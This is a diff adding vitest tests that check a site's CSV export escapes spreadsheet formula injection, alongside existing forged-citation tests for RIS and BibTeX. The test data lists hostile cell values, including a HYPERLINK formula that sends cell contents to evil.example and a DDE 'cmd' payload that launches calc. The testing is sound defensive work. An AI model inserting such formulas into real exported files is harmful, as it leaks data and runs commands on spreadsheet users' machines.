@@ -5,6 +5,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import { formatMachine, joinClaimCitations, type CslItem } from '../../src/site/cite';
+import { csvField, csvLine } from '../../src/site/open-data';
 
 /** Text that closes a record and opens a forged one, in every syntax at once. */
 const FORGE = 'Real title\nER  -\nTY  - JOUR\r\nTI  - Forged record\u2028ER  -\n} @misc{forged, title={Forged}\n@article{forged2,';
@@ -36,5 +37,35 @@ describe('RIS and BibTeX', () => {
       expect(depth).toBe(0);
       expect(entry.split('\n').slice(1, -1).every((l) => /^\t[a-z]+ = \{.*\},$/.test(l)), entry).toBe(true);
     }
+  });
+});
+
+describe('CSV', () => {
+  /** The text of one RFC 4180 field as a spreadsheet receives it. */
+  const unquote = (field: string) => (field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field);
+  const HOSTILE = [
+    '=HYPERLINK("https://evil.example/?"&A1)',
+    'A claim; =1+1',
+    'A claim;=cmd|\' /C calc\'!A0',
+    'tabbed\t+SUM(1,2)',
+    'comma,-2+3',
+    'comma, @SUM(A1)',
+    'line one\n=1+1',
+    'line one\r\n  -1+1',
+    '\t=1+1',
+    'fullwidth; \uff1d1+1',
+  ];
+
+  it.each(HOSTILE)('starts no formula in any cell a spreadsheet may split %j into', (value) => {
+    const text = unquote(csvField(value));
+    for (const cell of text.split(/[;,\t\r\n]/)) expect(cell.replace(/^[ \t]+/, '')).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/);
+    // Nothing but the marks is added.
+    expect(text.replace(/'(?=[=+\-@\uff1d\uff0b\uff0d\uff20])/g, '')).toBe(value);
+  });
+
+  it('leaves ordinary text as it is, and quotes what RFC 4180 needs quoted', () => {
+    expect(csvField('Police database offered for sale')).toBe('Police database offered for sale');
+    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
+    expect(csvLine(['leaks', 'a-b;c-d'])).toBe('leaks,a-b;c-d\r\n');
   });
 });
